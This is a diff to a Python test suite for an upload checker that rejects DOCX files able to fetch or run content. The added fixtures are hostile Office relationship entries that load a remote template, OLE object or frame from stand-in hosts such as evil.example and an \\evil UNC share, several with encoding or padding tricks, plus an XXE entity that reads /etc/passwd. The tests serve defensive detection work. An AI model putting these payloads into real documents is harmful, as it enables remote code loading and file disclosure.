@@ -6,6 +6,7 @@ or holds links, devices, further archives and names that two programs read diffe
 from __future__ import annotations
 
 import io
+import os
 import struct
 import time
 import zipfile
@@ -296,6 +297,17 @@ def test_a_document_with_macros_is_none():
 
 TYPES = "[Content_Types].xml"
 DTD = '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
+SETTINGS = "word/_rels/settings.xml.rels"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def related(kind="attachedTemplate", target="https://evil.example/t.dotm", mode="External"):
+    given = f'Id="rId1" TargetMode="{mode}" Type="{OFFICE}/{kind}" Target="{target}"'
+    return f"<?xml version='1.0'?><Relationships><Relationship {given}/></Relationships>".encode()
+
+
+def moved(size, text):
+    return b"<a>" + b" " * size + text.removeprefix(b"<?xml version='1.0'?>")
 
 
 @pytest.mark.parametrize(
@@ -313,6 +325,27 @@ DTD = '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd
         ({TYPES: b'<Override ContentType="application/vnd.ms-office.vbaProject"/>'}, "macros"),
         ({TYPES: b'<Override ContentType="...macro&#69;nabled.main+xml"/>'}, "macros"),
         ({TYPES: "<x ContentType='...macroEnabledTemplate'/>".encode("utf-16")}, "macros"),
+        ({SETTINGS: related()}, "fetched from elsewhere"),
+        ({"word/_RELS/x.xml.RELS": related()}, "fetched from elsewhere"),
+        ({SETTINGS: related("oleObject", r"\\evil\share\x")}, "fetched from elsewhere"),
+        ({SETTINGS: related("frame", "//evil.example/x")}, "fetched from elsewhere"),
+        ({SETTINGS: related(target=r"file:///\\evil\x.dotm")}, "fetched from elsewhere"),
+        ({SETTINGS: related(target=r"C:\\evil\x.dotm")}, "fetched from elsewhere"),
+        ({SETTINGS: related(target="mhtml:http://evil.example!x")}, "fetched from elsewhere"),
+        ({SETTINGS: related("attached&#x54;emplate")}, "fetched from elsewhere"),
+        (
+            {
+                SETTINGS: related()
+                .replace(b"<Relationship ", b"<r:Relationship\n")
+                .replace(b'"', b"'")
+            },
+            "fetched from elsewhere",
+        ),
+        ({SETTINGS: moved(65_400, related())}, "fetched from elsewhere"),
+        ({SETTINGS: moved(65_450, related())}, "fetched from elsewhere"),
+        ({SETTINGS: related().decode().encode("utf-16")}, "encoding"),
+        ({SETTINGS: DTD.encode()}, "DTD"),
+        ({SETTINGS: b"<Relationship a='" + os.urandom(90_000).hex().encode()}, "relation too long"),
     ],
 )
 def test_a_document_that_fetches_or_runs_is_none(parts, why):
@@ -333,6 +366,11 @@ def test_an_honest_document_is_one():
         "word/media/a.png": b"\x89PNG <!DOCTYPE macroEnabled",
         "word/other.xml": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"),
         "word/empty.xml": b"",
+        SETTINGS: related(target=r"file:///C:\Users\ada\Templates\Letter.dotx"),
+        "word/_rels/a.rels": related(target="Letter.dotx"),
+        "word/_rels/b.rels": related("hyperlink") + related("image"),
+        "word/_rels/c.rels": related(mode="Internal", target="embeddings/oleObject1.bin"),
+        "word/_rels/d.rels": moved(65_450, related(target=r"C:\t\Letter.dotx")),
         "word/large.xml": b"<a>" + b"".join(b"<!-- macroEnabled %d -->" % n for n in range(5_000)),
     }
     found = check_file(packed(*parts.items()), "a.docx", UploadSettings(types=("docx",)))
@@ -342,3 +380,14 @@ def test_an_honest_document_is_one():
 def test_names_that_some_disks_take_for_one_are_refused():
     for names in (("\u00e9", "e\u0301"), ("\ufb01", "fi"), ("\u212b", "\u00e5")):
         assert refused(packed(*((name, b"") for name in names))) == "one name twice"
+
+
+def test_relations_without_an_end_cost_next_to_nothing():
+    """Attack: beginnings of relations whose values have no end, each of them read to the end."""
+    held = {TYPES: b"<Types/>", "word/document.xml": b"<d/>"}
+    data = packed(*held.items(), (SETTINGS, b"<Relationship a='" * 60_000))
+    began = time.process_time()
+    check_file(
+        data, "a.docx", UploadSettings(types=("docx",), archives=ArchiveLimits(max_ratio=9999))
+    )
+    assert time.process_time() - began < 0.5
